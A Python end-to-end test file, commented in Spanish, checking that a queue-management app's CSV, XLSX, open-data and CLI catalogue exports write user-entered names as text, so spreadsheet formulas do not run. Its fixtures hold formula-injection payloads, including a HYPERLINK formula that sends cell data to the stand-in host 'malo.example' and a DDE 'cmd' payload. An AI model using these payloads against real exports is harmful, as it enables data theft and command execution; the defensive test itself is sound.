"""Inyección de fórmulas (issue 8, punto 7): textos capturados por personas (nombre registrado
en la ventanilla, nombres del catálogo) salen como texto en toda exportación CSV/XLSX.

Ataque por la app real: la ventanilla registra el nombre por la API; la jefa descarga los
reportes; cualquiera descarga los datos abiertos; la CLI exporta el catálogo.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from starlette.testclient import TestClient

from metricas.consultas import olvidar_cache
from tests.conftest import AHORA, minutos
from tests.e2e.conftest import bearer
from turnos import cli
from turnos.servicios import catalogo
from turnos.settings import Settings
from turnos.web.app import crear_app

ENLACE = '=HYPERLINK("http://malo.example/?d="&A1,"Ver")'
TRAMITE = "@SUMA(1+1) trámite"
VENTANILLA = "+cmd|' /C calc'!A0"
CONTACTO = "-2+3"
PERIODO = "desde=2026-11-23&hasta=2026-11-23"


def _filas(texto: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(texto.lstrip("\ufeff"))))


def _celdas(contenido: bytes) -> list[Any]:
    libro = load_workbook(io.BytesIO(contenido))
    return [c for hoja in libro.worksheets for fila in hoja.iter_rows() for c in fila]


def _sin_formulas(contenido: bytes, *textos: str) -> None:
    celdas = _celdas(contenido)
    assert all(c.data_type != "f" for c in celdas)
    for texto in textos:
        vistas = [c for c in celdas if isinstance(c.value, str) and texto in c.value]
        assert vistas, texto
        assert all(c.value == "'" + texto and c.data_type == "s" for c in vistas), texto


def test_exportaciones_escriben_formulas_como_texto(alm, centro, db_url, tmp_path: Path):
    olvidar_cache()
    catalogo.importar_tramites(
        alm, "prueba", [{"clave": "D", "nombre": TRAMITE, "prefijo": "D"}], AHORA
    )
    catalogo.guardar_ventanilla(alm, "prueba", 1, VENTANILLA, ["A", "B", "D"], AHORA)
    reloj = [minutos(0)]
    app = crear_app(Settings(db=db_url, secreto="prueba-secreto"), reloj=lambda: reloj[0])
    staff, jefa = bearer(centro.staff_tokens[0]), bearer(centro.jefe_token)
    with TestClient(app) as c:
        v = "/api/v1/centros/prueba/ventanillas/1"
        assert c.post(f"{v}/abrir", headers=staff).status_code == 200
        r = c.post("/api/v1/centros/prueba/turnos", json={"tramite": "D"}, headers=staff)
        assert r.status_code == 201
        for minuto, accion, cuerpo in (
            (1, "llamar", {}),
            (2, "iniciar", {}),
            (3, "registrar", {"nombre": ENLACE, "contacto": CONTACTO}),
            (4, "finalizar", {}),
        ):
            reloj[0] = minutos(minuto)
            assert c.post(f"{v}/{accion}", json=cuerpo, headers=staff).status_code == 200, accion
        reloj[0] = minutos(60 * 24)

        base = f"/tablero/prueba/reportes?{PERIODO}"
        r = c.get(f"{base}&vista=registro&formato=csv", headers=jefa)
        fila = _filas(r.text)[0]
        assert (fila["nombre"], fila["contacto"]) == ("'" + ENLACE, "'" + CONTACTO)
        assert fila["tramite"] == "'" + TRAMITE
        r = c.get(f"{base}&vista=registro&formato=xlsx", headers=jefa)
        _sin_formulas(r.content, ENLACE, TRAMITE, CONTACTO)

        r = c.get(f"{base}&vista=kpis&formato=csv&tabla=tramites", headers=jefa)
        assert {f["clave"]: f["tramite"] for f in _filas(r.text)}["D"] == "'" + TRAMITE
        r = c.get(f"{base}&vista=kpis&formato=csv&tabla=ventanillas", headers=jefa)
        assert "'" + VENTANILLA in [f.get("ventanilla") or f.get("nombre") for f in _filas(r.text)]
        r = c.get(f"{base}&vista=kpis&formato=xlsx", headers=jefa)
        _sin_formulas(r.content, TRAMITE, VENTANILLA)

        r = c.get(f"/datos-abiertos/prueba.csv?{PERIODO}")
        abiertos = {f["tramite_clave"]: f for f in _filas(r.text)}
        assert abiertos["D"]["tramite_nombre"] == "'" + TRAMITE

    # Catálogo por la CLI: el CSV sale protegido y al importarlo de vuelta queda igual.
    salida = tmp_path / "catalogo.csv"
    args = ["catalogo", "exportar", "--centro", "prueba", "--salida", str(salida), "--db", db_url]
    assert cli.main(args) == 0
    exportado = {f["clave"]: f for f in _filas(salida.read_text(encoding="utf-8"))}
    assert exportado["D"]["nombre"] == "'" + TRAMITE
    args = ["catalogo", "importar", str(salida), "--centro", "prueba", "--db", db_url]
    assert cli.main(args) == 0
    with alm.lectura() as conn:
        cid = catalogo.consultas.centro(conn, "prueba").id
        nombres = {t["clave"]: t["nombre"] for t in catalogo.listar_tramites(conn, cid)}
    assert nombres["D"] == TRAMITE
